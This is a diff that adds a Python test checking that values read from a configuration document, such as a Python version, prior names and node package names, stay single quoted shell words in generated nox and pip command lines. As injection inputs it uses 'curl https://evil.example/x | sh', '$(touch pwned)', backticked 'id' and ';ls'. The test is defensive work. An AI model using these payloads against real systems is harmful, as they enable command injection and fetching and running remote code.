@@ -213,3 +213,25 @@ def test_without_a_url_the_steps_and_issue_say_exactly_what_to_set(tmp_path):
                                URL_VARIABLE: f"file://{tmp_path}"})
     assert URL_VARIABLE not in done.stderr
     assert f"git clone file://{tmp_path} gpurepro\ncd gpurepro\n" in done.stdout
+
+
+def test_every_new_word_from_the_document_is_one_quoted_shell_word():
+    """The runtime's Python, named priors and node packages come from the document: each stays
+    one word of its line, whatever it holds."""
+    import shlex
+
+    doc = _doc(CTX)
+    hostile = "3.12; curl https://evil.example/x | sh\n#"
+    doc["runtime"]["python"] = hostile
+    doc["plan"]["options"]["stopping"] = {"design": "decisive", "alpha": 0.05, "max_trials": 3,
+                                          "priors_named": True, "priors_from": ["$(touch pwned)"]}
+    arm = next(iter(doc["runtime"]["arms"].values()))
+    arm["from_node"] = [{"name": "x`id`", "version": "1;ls", "requirement": "x", "of": "y"}]
+    nox, plain = _blocks(doc)
+    words = shlex.split(nox[-1])
+    assert words[:4] == ["nox", "-s", "ctx_get_device_v2", "--force-python"]
+    assert words[4] == hostile.replace("\n", " ") and words[5:] == ["--", "${ARGS[@]}"]
+    assert "$(touch pwned)" in shlex.split(nox[-2][len("ARGS=("):-1])
+    assert shlex.split(plain[0])[0] == f"python{hostile}".replace("\n", " ")
+    assert "x`id`==1;ls" in shlex.split(plain[1])
+    assert all("\n" not in line for line in nox + plain)
